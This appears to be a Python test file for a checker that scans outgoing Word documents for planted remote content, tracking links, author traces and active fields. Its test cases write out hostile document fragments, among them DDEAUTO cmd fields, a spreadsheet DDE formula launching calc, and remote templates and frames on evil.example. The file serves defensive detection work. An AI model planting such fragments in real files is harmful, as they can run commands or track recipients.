"""A finished Word file in which something is planted that must never go out."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from functools import cache

import pytest

from selfassess.outgoing.word import instructions
from tests.document.charts import BARS, markup
from tests.outgoing.planting import leaks, planted, swapped, word
from tests.write.word.word_files import document, written

BODY, LINKS, SETTINGS, STYLES = (
    "word/document.xml",
    "word/_rels/document.xml.rels",
    "word/settings.xml",
    "word/styles.xml",
)
HEADER, TOP, TYPES, CORE = "word/header-default.xml", "_rels/.rels", "[Content_Types].xml", "docProps/core.xml"
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ROW = '<Relationship Id="x" Type="{}" Target="{}" TargetMode="External"/></Relationships>'
LINK = "https://www.exampleshire.example/plan"
RUN = "<w:r>"


def row(kind: str, target: str) -> tuple[str, str]:
    return "</Relationships>", ROW.format(kind if "://" in kind else f"{KIND}/{kind}", target)


def field(instruction: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>{instruction}</w:instrText></w:r>{RUN}'


PLANTED: list[tuple[str, str, str, str]] = [
    # what is fetched
    (LINKS, *row("image", "https://track.example/a.png"), "a part that is fetched from elsewhere"),
    (LINKS, *row("attachedTemplate", "https://evil.example/a.dotm"), "a relationship of the kind “attachedTemplate”"),
    (LINKS, *row("oleObject", "file:///C:/a.xls"), "a relationship of the kind “oleObject”"),
    (LINKS, *row("frame", "https://evil.example"), "a relationship of the kind “frame”"),
    (TOP, *row("http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "x.xml"),
     "a relationship of the kind “webextensiontaskpanes”"),
    (HEADER, "<w:drawing>", '<w:drawing><a:blip r:link="x"/>', "a picture or shape that leads elsewhere"),
    (BODY, RUN, '<v:image xmlns:v="urn:schemas-microsoft-com:vml" src="https://a.example"/><w:r>', "leads elsewhere"),
    # links
    (LINKS, LINK, "https://evil.example/", "a link that nobody typed"),
    (LINKS, LINK, "https://reader:sesame@www.exampleshire.example/", "an address with a user name or password (https://…@"),
    (LINKS, LINK, "https://reader%40www.exampleshire.example/", "an address with a user name or password"),
    (LINKS, LINK, "file:///C:/Users/jane/plan.docx", "a link that is not a web, email or telephone address"),
    (LINKS, LINK, "\\\\server\\share\\plan.docx", "a link that is not a web, email or telephone address"),
    (LINKS, LINK, "C:\\plan.docx", "a link that is not a web, email or telephone address"),
    (LINKS, LINK, "https://eur01.safelinks.protection.outlook.com/?url=a&amp;data=jane", "an address of a mail filter"),
    # fields
    (HEADER, "<w:p>", f"<w:p>{field('DDEAUTO cmd x')}</w:r>", "a field that acts, fetches or asks (DDEAUTO)"),
    (HEADER, "<w:p>", f"<w:p>{field('DDE')}<w:instrText>AUTO x</w:instrText></w:r>", "asks (DDEAUTO)"),
    (BODY, RUN, field("INCLUDETEXT x"), "a field that acts, fetches or asks (INCLUDETEXT)"),
    (BODY, RUN, f'<w:fldSimple w:instr=" AUTHOR "/>{RUN}', "a field that acts, fetches or asks (AUTHOR)"),
    (BODY, RUN, field("HYPERLINK &quot;file:///C:/a&quot;"), "a link that is not a web, email or telephone address"),
    # marks of who worked on it
    (BODY, RUN, '<w:ins w:id="1" w:author="Jane"/><w:r>', "something that acts or is fetched, or that tells who"),
    (BODY, RUN, '<w:commentReference w:id="1"/><w:r>', "that tells who worked on it"),
    (BODY, RUN, '<w:r w:rsidR="00A1B2C3">', "a mark of who worked on it"),
    (SETTINGS, "<w:compat>", "<w:rsids/><w:compat>", "that tells who worked on it"),
    (SETTINGS, "<w:compat>", '<w:documentProtection w:edit="readOnly"/><w:compat>', "that tells who worked on it"),
    (SETTINGS, "<w:compat>", "<w:mailMerge/><w:compat>", "something that acts or is fetched"),
    (SETTINGS, "<w:compat>", '<w:attachedTemplate r:id="x"/><w:compat>', "something that acts or is fetched"),
    (BODY, RUN, "<w:object/><w:r>", "something that acts or is fetched"),
    (BODY, RUN, '<w:altChunk r:id="x"/><w:r>', "something that acts or is fetched"),
    (HEADER, "</w:hdr>", '<x:ins xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/></w:hdr>',
     "markup of an addition of some program"),
    (STYLES, "</w:styles>", '<x:a xmlns:x="http://schemas.microsoft.com/office/word/2012/wordml"/></w:styles>',
     "markup of an addition of some program"),
    (BODY, RUN, "<!-- for Jane --><w:r>", "a comment, an entity or an instruction to programs"),
    (BODY, RUN, "<?mso-application x?><w:r>", "a comment, an entity or an instruction to programs"),
    # properties and types
    (CORE, "</cp:coreProperties>", "<cp:keywords>Jane</cp:keywords></cp:coreProperties>", "a property"),
    (CORE, "</cp:coreProperties>", "<dc:description>Jane</dc:description></cp:coreProperties>", "a property"),
    (TYPES, "image/png", "image/svg+xml", "a part of a type that no document of ours has"),
    (TYPES, "document.main+xml", "document.macroEnabled.main+xml", "a part of a type that no document of ours has"),
]  # fmt: skip


@pytest.mark.parametrize(("part", "old", "new", "what"), PLANTED, ids=[f"{each[0]} {each[2][:60]}" for each in PLANTED])
def test_what_is_planted_in_a_part_is_found(part: str, old: str, new: str, what: str) -> None:
    found = leaks("a.docx", planted(word(), part, swapped(old, new)))
    assert any(what in leak.what for leak in found), found
    assert {leak.part for leak in found} <= {part}


@pytest.mark.parametrize(
    "part",
    [
        "docProps/custom.xml",
        "docProps/app.xml",
        "docProps/thumbnail.jpeg",
        "customXml/item1.xml",
        "word/vbaProject.bin",
        "word/comments.xml",
        "word/people.xml",
        "word/webSettings.xml",
        "word/embeddings/a.bin",
        "word/fonts/font1.odttf",
        "word/media/../a.png",
        "word/activeX/activeX1.xml",
        "customUI/customUI14.xml",
        "a",
    ],
)
def test_a_part_that_no_document_has_is_found(part: str) -> None:
    found = leaks("a.docx", planted(word(), part, lambda _: b"x"))
    assert ("a part that no document of ours has", part) in {(leak.what, leak.part) for leak in found}


FIGURES, SHEET = "word/embeddings/figures1.xlsx", "xl/worksheets/sheet1.xml"
CHART = "word/charts/chart1.xml"
IN_WORKBOOK = {
    "another formula": (SHEET, swapped("<f>B2", "<f>HYPERLINK(A1)&amp;B2")),
    "a formula that asks another program": (SHEET, swapped("<f>", "<f>cmd|'/c calc'!A1&amp;")),
    "a link": (SHEET, swapped("</sheetData>", "</sheetData><hyperlinks/>")),
    "a name of cells": ("xl/workbook.xml", swapped("</sheets>", "</sheets><definedNames/>")),
    "an addition": (SHEET, swapped("<sheetData>", '<sheetData xmlns:x="http://evil.example">')),
    "a comment": (SHEET, swapped("<sheetData>", "<!-- by Jane --><sheetData>")),
    "a part": ("xl/vbaProject.bin", lambda _: b"x"),
    "a place elsewhere": (
        "xl/_rels/workbook.xml.rels",
        swapped('Target="worksheets/sheet1.xml"', 'Target="https://evil.example/" TargetMode="External"'),
    ),
}


@cache
def with_chart() -> bytes:
    return written(document(markup(BARS)))[0]


def test_a_chart_goes_out() -> None:
    assert leaks("a.docx", with_chart()) == ()


@pytest.mark.parametrize(("part", "change"), IN_WORKBOOK.values(), ids=IN_WORKBOOK)
def test_what_is_planted_in_the_workbook_of_a_chart_is_found(part: str, change: Callable[[bytes], bytes]) -> None:
    found = leaks("a.docx", planted(with_chart(), FIGURES, lambda content: planted(content, part, change)))
    assert [leak.part for leak in found] == [f"{FIGURES}, {part}"]


def test_a_workbook_that_is_none_is_found() -> None:
    found = leaks("a.docx", planted(with_chart(), FIGURES, lambda _: b"x"))
    assert [(leak.what, leak.part) for leak in found] == [("damage", FIGURES)]


def test_a_chart_whose_figures_are_elsewhere_is_found() -> None:
    elsewhere = swapped('Target="../embeddings/figures1.xlsx"', 'Target="file:///C:/a.xlsx" TargetMode="External"')
    found = leaks("a.docx", planted(with_chart(), "word/charts/_rels/chart1.xml.rels", elsewhere))
    assert [leak.what for leak in found] == ["a part that is fetched from elsewhere"]


def test_a_picture_that_says_where_it_was_taken_is_found() -> None:
    [media] = [name for name in zipfile.ZipFile(io.BytesIO(word())).namelist() if "/media/" in name]
    with_place = planted(word(), media, lambda content: content[:-12] + b"\0\0\0\4tEXtHome\0\0\0\0" + content[-12:])
    assert [leak.part for leak in leaks("a.docx", with_place)] == [media]


def test_a_part_that_is_there_twice_and_a_comment_of_the_zip_are_found() -> None:
    stream = io.BytesIO(word())
    with zipfile.ZipFile(stream, "a") as archive:
        with pytest.warns(UserWarning, match="Duplicate name"):
            archive.writestr("word/document.xml", "x")
        archive.comment = b"By Jane"
    assert len(leaks("a.docx", stream.getvalue())) >= 2


@pytest.mark.parametrize("words", ["href=", "r:link", "w:rsid", "DDEAUTO cmd", "file:///C:/a", "<w:ins>", "<!-- x -->"])
def test_words_may_say_anything(words: str) -> None:
    said = words.replace("<", "&lt;").replace(">", "&gt;")
    assert leaks("a.docx", planted(word(), BODY, swapped("our plan", said))) == ()


def test_a_finished_file_has_nothing_to_hide() -> None:
    assert leaks("a.docx", word()) == ()


def test_damage_is_found() -> None:
    assert [leak.what[:6] for leak in leaks("a.docx", b"not a zip")] == ["damage"]


def test_the_instruction_of_a_field_is_read_through_all_its_runs() -> None:
    markup = field("D") + "<w:instrText>DE</w:instrText>" + field(" PAGE") + '<w:fldChar w:fldCharType="end"/>' * 2
    assert [*instructions(markup.encode())] == ["PAGE", "DDE"]
